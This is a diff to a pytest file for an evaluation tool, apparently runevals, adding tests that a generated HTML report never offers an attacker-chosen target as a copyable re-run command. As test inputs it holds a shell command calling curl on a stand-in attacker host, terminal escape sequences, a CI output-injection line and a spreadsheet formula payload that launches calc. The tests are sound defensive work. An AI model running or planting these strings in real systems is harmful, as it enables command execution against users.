@@ -13,6 +13,7 @@ import pytest
 from runevals.cli import main
 from runevals.lib.text.escape import spreadsheet_cell
 from tests.attacks.conftest import SECRETS
+from tests.reports.parsed_page import Page
 
 ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b[31m\x9b1m\u202e\u200b"
 COMMAND = "::set-output name=verdict::passed"
@@ -186,3 +187,29 @@ def test_a_table_without_this_has_such_a_row():
     csv.writer(plain, lineterminator="\n").writerow(["a", "fine\r=cmd|'/c calc'!A0"])
     assert rows_of(plain.getvalue())[1][0].startswith("=cmd")
     assert spreadsheet_cell("a, b\nc") == "a, b\nc"
+
+
+@pytest.mark.parametrize(
+    "words",
+    [["report", "given.json"], ["compare", "given.json", "given.json"]],
+    ids=lambda words: words[0],
+)
+def test_no_page_of_a_document_offers_its_target_as_a_command(hostile, document, words):
+    """Who made the document would choose what its reader runs by copying a line."""
+    document["run"]["settings"] |= {"target": "command:sh -c 'curl evil.example'", "config": "evil.yaml"}
+    hostile.write("given.json", document)
+    hostile.run(*words, "-o", "page.html").must(0)
+    [line] = {shown["again"].partition(" --filter=")[0] for shown in shown_cases(hostile)}
+    assert line == "runevals run evals.json"
+    assert not any("evil" in shown["again"] for shown in shown_cases(hostile))
+
+
+def test_the_page_of_a_run_of_ones_own_names_its_target(hostile):
+    """The control."""
+    hostile.run("run", "--target", "openai:tiny", "-o", "page.html").must(0)
+    assert all(shown["again"].endswith("--target=openai:tiny") for shown in shown_cases(hostile))
+
+
+def shown_cases(hostile) -> list[dict[str, str]]:
+    page = Page((hostile.path / "page.html").read_text(encoding="utf-8"))
+    return [shown for shown in page.data("body") if shown]
